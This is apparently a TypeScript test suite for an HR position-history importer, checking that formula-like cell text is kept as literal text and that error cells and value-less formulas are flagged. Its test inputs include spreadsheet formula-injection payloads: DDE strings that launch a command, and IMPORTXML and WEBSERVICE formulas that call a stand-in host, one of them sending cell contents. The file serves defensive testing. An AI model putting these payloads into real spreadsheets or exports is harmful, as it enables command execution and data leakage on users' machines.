import { type Case, faulty, refused } from './case'
import { faults, taken, takes } from './history'
import { historyWorkbook, raw } from './workbook-bytes'

/** Texts that a spreadsheet would run; here they are text, letter for letter, and are guarded where they are written. */
const FORMULAS = [
  '=1+1',
  '=SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.test","click")',
  '=IMPORTXML(CONCAT("http://example.test/",A1),"//a")',
  '=WEBSERVICE("http://example.test/")',
  '@SUM(1+1)',
  '+1+1',
  '-1+1',
  '-2',
  '+44 20 7946 0000',
  '@home',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '%0A=1+1',
  '=1+1;=2+2',
  '"=1+1"',
  '|=1+1',
  '{=1+1}',
  'DDE("cmd";"/C calc";"x")',
]
const ERRORS = ['#N/A', '#REF!', '#VALUE!', '#DIV/0!', '#NAME?', '#NULL!', '#NUM!', '#SPILL!', '########']

const book = (cell: string) => historyWorkbook([{ PositionName: raw(cell) }])
const number = (cell: string) => historyWorkbook([{ FTE: raw(cell) }])

export const formulaText: Case[] = [
  ...FORMULAS.map((text) => takes(`${text} as text`, { PositionName: text }, { positionTitle: text })),
  ...FORMULAS.filter((text) => /^[=+\-@＝＋－＠]/.test(text)).map((text) =>
    takes(`${text} with its guard`, { PositionName: `'${text}` }, { positionTitle: text }),
  ),
  ...FORMULAS.slice(0, 4).map((text) =>
    taken(`${text} as text in a workbook`, historyWorkbook([{ PositionName: text }]), [
      { positionTitle: text },
    ]),
  ),
  takes('an apostrophe that guards nothing', { PositionName: "'Analyst" }, { positionTitle: "'Analyst" }),
  takes('a guard before a guard', { PositionName: "''=1" }, { positionTitle: "'=1" }),
  ...ERRORS.map((text) =>
    faults(`${text} in CSV`, { PositionName: text }, ['PositionName', 'shows an error']),
  ),
  faults('an error where a cell may be empty', { PositionNumber: '#N/A' }, [
    'PositionNumber',
    'shows an error',
  ]),
  faults('a date too wide for its column', { EffectiveStartDate: '##########' }, [
    'EffectiveStartDate',
    'shows an error',
  ]),
  faults('a formula for a number', { FTE: '=0.5+0.3' }, ['FTE', 'not a full-time equivalent']),
  faults('a formula for a date', { EffectiveStartDate: '=TODAY()' }, [
    'EffectiveStartDate',
    'This is not a date',
  ]),
  taken('a formula with its text', book('<c r="@" t="str"><f>A1&amp;"x"</f><v>Data Analyst II</v></c>'), [
    { positionTitle: 'Data Analyst II' },
  ]),
  taken('a formula with its number', number('<c r="@"><f>0.5+0.3</f><v>0.8</v></c>')),
  taken(
    'a formula with a number not quite exact',
    number('<c r="@"><f>0.1*8</f><v>0.80000000000000004</v></c>'),
  ),
  taken(
    'a shared formula with its number',
    number('<c r="@"><f t="shared" ref="I2:I9" si="0">0.5+0.3</f><v>0.8</v></c>'),
  ),
  taken(
    'an array formula with its number',
    number('<c r="@"><f t="array" ref="I2">SUM(A1)</f><v>0.8</v></c>'),
  ),
  refused(
    'a formula without its number',
    number('<c r="@"><f>0.5+0.3</f></c>'),
    'column I: the formula in this cell was saved without its value',
    { row: 2, column: 'I' },
  ),
  refused(
    'a formula with an empty value',
    number('<c r="@"><f>0.5+0.3</f><v></v></c>'),
    'saved without its value',
    { row: 2, column: 'I' },
  ),
  refused('a formula without its text', book('<c r="@" t="str"><f>A1</f></c>'), 'saved without its value', {
    row: 2,
    column: 'F',
  }),
  refused(
    'a shared formula without its number',
    number('<c r="@"><f t="shared" si="0"/></c>'),
    'saved without its value',
    { row: 2, column: 'I' },
  ),
  faulty('a formula whose text is empty', book('<c r="@" t="str"><f>IF(1,"")</f><v></v></c>'), [
    2,
    'PositionName',
    'There is no position name',
  ]),
  faulty('a formula that failed', book('<c r="@" t="e"><f>VLOOKUP(1,A:A,2)</f><v>#N/A</v></c>'), [
    2,
    'PositionName',
    'shows an error',
  ]),
  faulty('a formula that failed for a number', number('<c r="@" t="e"><f>1/0</f><v>#DIV/0!</v></c>'), [
    2,
    'FTE',
    'shows an error',
  ]),
]
